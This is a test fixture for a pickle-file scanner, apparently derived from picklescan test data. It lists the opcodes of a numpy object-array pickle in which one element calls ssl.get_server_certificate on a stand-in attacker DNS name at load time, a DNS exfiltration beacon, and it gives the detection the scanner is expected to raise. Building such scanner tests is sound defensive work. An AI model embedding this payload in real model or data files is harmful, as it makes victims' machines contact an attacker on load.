#! technique 38 ssl.get_server_certificate inside a numpy object-array pickle (DNS exfiltration)
#! expect PICKLE-GLOBAL-IMPORT get_server_certificate
# picklescan tests/data2/dns_exfiltration.npy (commit 62e76cf): the data
# section of an object .npy is pickle.dump(array, protocol=3); one element
# reduces to ssl.get_server_certificate((host, 443)), which resolves and
# connects to the attacker's DNS name at load time. Only the pickle is here.
PROTO 3
GLOBAL "numpy.core.multiarray" "_reconstruct"
BINPUT 0
GLOBAL "numpy" "ndarray"
BINPUT 1
BININT1 0
TUPLE1
BINPUT 2
SHORT_BINBYTES "b"
BINPUT 3
TUPLE3
BINPUT 4
REDUCE
BINPUT 5
MARK
BININT1 1
BININT1 1
TUPLE1
BINPUT 6
GLOBAL "numpy" "dtype"
BINPUT 7
BINUNICODE "O8"
BINPUT 8
NEWFALSE
NEWTRUE
TUPLE3
BINPUT 9
REDUCE
BINPUT 10
MARK
BININT1 3
BINUNICODE "|"
BINPUT 11
NONE
NONE
NONE
BININT -1
BININT -1
BININT1 63
TUPLE
BINPUT 12
BUILD
NEWFALSE
EMPTY_LIST
BINPUT 13
GLOBAL "ssl" "get_server_certificate"
BINPUT 14
BINUNICODE "root-x-0-0.dns-logger.invalid"
BININT2 443
TUPLE2
TUPLE1
REDUCE
APPEND
TUPLE
BUILD
STOP
